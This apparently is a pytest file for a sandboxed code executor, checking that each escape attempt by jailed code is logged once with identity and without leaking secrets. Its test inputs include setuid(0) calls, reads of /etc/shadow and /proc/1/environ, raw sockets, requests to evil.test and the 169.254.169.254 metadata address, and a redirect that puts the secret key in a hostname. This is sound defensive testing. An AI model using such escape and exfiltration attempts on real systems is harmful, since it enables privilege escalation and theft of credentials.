"""Every attempt against the walls that is seen from outside is one line of the security log: who, what, by name."""

from typing import Any

import pytest
import structlog

from executor.brokers import client_of
from executor.conftest import SECRET, Config, Registry, Run
from executor.kept import Kept
from executor.upstream import Seen, Upstream, json_answer, redirect
from hardpoint_executor.domain import Finished, Limits
from hardpoint_executor.jail import Jails
from hardpoint_executor.service import Executor
from hardpoint_kit.caller import SYSTEM
from hardpoint_kit.clock import SystemClock
from hardpoint_kit.errors import InvalidArgument
from jail.programs import PYTHON_HEADER

pytestmark = pytest.mark.jail
WHO = {
    "org": "acme",
    "capability": "orgs/acme/capabilities/probe",
    "release": "orgs/acme/capabilities/probe/releases/1.0.0",
    "agent": "helper",
    "run": "orgs/acme/runs/r1",
    "execution": "e1",
}
INPUT = "canary-of-the-input"
FORBIDDEN = {
    "python": "import os\nprint(input)\nself.log(input['word'])\nos.setuid(0)",
    "javascript": "const p = await import('node:process'); console.log(input.word); p.setuid(0);",
}
ASKS: dict[str, dict[str, Any]] = {
    "HOST_NOT_GRANTED": {"url": f"https://evil.test/{INPUT}?q={INPUT}"},
    "HOST_NOT_A_NAME": {"url": f"http://169.254.169.254/{INPUT}"},
    "URL_REFUSED": {"url": f"file:///{INPUT}"},
    "METHOD_REFUSED": {"url": "https://api.example.com/", "method": "TRACE"},
    "HEADER_REFUSED": {"url": "https://api.example.com/", "headers": {"Proxy-Authorization": INPUT}},
    "SECRET_NOT_FOR_HOST": {"url": "https://other.example.com/", "headers": {"X-Key": "API_KEY"}, "body": INPUT},
    "REDIRECT_REFUSED": {"url": "https://api.example.com/", "headers": {"X-Key": "API_KEY"}, "body": INPUT},
}
FETCH = """
headers = {name: self.config.get(value, value) for name, value in input.get("headers", {}).items()}
await self.fetch(input["url"], method=input.get("method", "GET"), headers=headers, body=input.get("body"))
"""


async def lines(run: Run, *arguments: Any, **named: Any) -> tuple[Finished, list[dict[str, Any]]]:
    with structlog.testing.capture_logs() as logs:
        finished = (await run(*arguments, **named))[-1]
    assert isinstance(finished, Finished)
    assert INPUT not in repr(logs)
    assert SECRET not in repr(logs)
    return finished, [dict(entry) for entry in logs if "code" in entry]


@pytest.mark.parametrize("language", FORBIDDEN)
async def test_a_forbidden_system_call_is_one_line_with_its_name(run: Run, language: str, tier: str) -> None:
    finished, (line,) = await lines(run, language, FORBIDDEN[language], {}, input={"word": INPUT})
    assert finished.error is not None
    assert finished.error.reason == "VIOLATION"
    assert line.pop("event").startswith("code of orgs/acme/capabilities/probe killed")
    told = {"syscall": "setuid"} if (language, tier) == ("python", "slots") else {"signal": "SIGSYS"}
    assert line == {**WHO, "code": "VIOLATION", **told, "log_level": "warning"}


@pytest.mark.parametrize("code", ASKS)
async def test_a_refusal_of_the_broker_is_one_line_by_name(run: Run, code: str) -> None:
    def mean(seen: Seen) -> bytes:
        """An upstream that repeats the key in the name of the host to go to."""
        return redirect(f"https://{SECRET}.evil.test/{seen.body.decode()}")

    async with Upstream(mean) as api, Upstream(lambda _: json_answer({})) as other:
        hosts = {"api.example.com": api, "other.example.com": other}
        finished, (line,) = await lines(run, "python", FETCH, hosts, input=ASKS[code])
    assert finished.error is not None
    assert finished.error.reason == code
    assert line["event"].startswith("call of orgs/acme/capabilities/probe denied: ")
    assert (line["code"], line["log_level"]) == (code, "warning")
    assert {name: line[name] for name in WHO} == WHO
    named = {"HOST_NOT_GRANTED": "evil.test", "HOST_NOT_A_NAME": "169.254.169.254", "METHOD_REFUSED": "TRACE"}
    assert named.get(code, "") in line["event"]
    assert SECRET not in repr(vars(finished.error))


ATTEMPTS = {
    "python": [
        ("open('/etc/shadow')", ("open", "/etc/shadow")),
        ("import socket\nsocket.socket()", ("socket.__new__", "AF_INET")),
        ("import os\nos.fork()", ("os.fork", None)),
    ],
    "javascript": [
        ("const fs = await import('node:fs'); fs.readFileSync('/etc/shadow');", ("fs.readFileSync", "/etc/shadow")),
        (
            "const n = await import('node:net'); await new Promise((_, no) => n.connect(80, '::1').on('error', no));",
            ("net.connect", "::1:80"),
        ),
    ],
}


@pytest.mark.parametrize("language", ATTEMPTS)
async def test_what_no_jail_has_is_a_line_by_name(run: Run, language: str, tier: str) -> None:
    for body, (tried, target) in ATTEMPTS[language]:
        _, found = await lines(run, language, body, {}, input={"word": INPUT})
        by_code = next(line for line in found if line["told_by"] == "code")
        told = f"code of {WHO['capability']} tried what no jail has: {tried} {target or ''}"
        assert by_code.pop("event") == told.rstrip()
        place = {"target": target} if target else {}
        line = {**WHO, "code": "ATTEMPT", "tried": tried, **place, "told_by": "code", "log_level": "warning"}
        assert by_code == line
        by_kernel = [line["tried"] for line in found if line["told_by"] == "kernel"]
        calls = {"socket.__new__": ["socket"], "os.fork": ["clone"]} if tier == "slots" else {}
        assert by_kernel == calls.get(tried, [])


async def test_an_attempt_that_names_a_secret_names_none(run: Run) -> None:
    body = "open('/root/' + self.config['API_KEY'] + '/' + input['echo'])"
    _, (line,) = await lines(run, "python", body, {}, input={"echo": SECRET})
    assert line["target"].startswith("/root/secret:/API_KEY#"), "a handle, which means nothing in another call"
    assert line["target"].endswith("/[secret API_KEY]")


async def test_an_end_that_is_no_attempt_leaves_no_line(run: Run) -> None:
    for body in ("raise ValueError", "open('/etc/localtime')", "open('none')", "return 1"):
        assert (await lines(run, "python", body, {}))[1] == []


async def test_a_header_that_reaches_for_something_is_a_line_too(jails: Jails) -> None:
    async with client_of({}) as http:
        executor = Executor(Registry(b""), Config(), jails, http, SystemClock(), Limits(), files=Kept())
        source = "try:\n    open('/proc/1/environ')\nexcept OSError:\n    pass\n" + PYTHON_HEADER
        with structlog.testing.capture_logs() as logs:
            await executor.read_header(SYSTEM("acme"), "x.py", source.encode())
    (line,) = logs
    assert (line["org"], line["code"], line["target"]) == ("acme", "ATTEMPT", "/proc/1/environ")


async def test_a_header_that_makes_a_forbidden_call_is_a_line_too(jails: Jails, tier: str) -> None:
    async with client_of({}) as http:
        executor = Executor(Registry(b""), Config(), jails, http, SystemClock(), Limits(), files=Kept())
        source = "import os\nos.setuid(0)\n" + PYTHON_HEADER
        with structlog.testing.capture_logs() as logs, pytest.raises(InvalidArgument):
            await executor.read_header(SYSTEM("acme"), "x.py", source.encode())
    (line,) = logs
    assert (line["org"], line["code"]) == ("acme", "VIOLATION")
    told = {"syscall": "setuid"} if tier == "slots" else {"signal": "SIGSYS"}
    assert told.items() <= line.items()
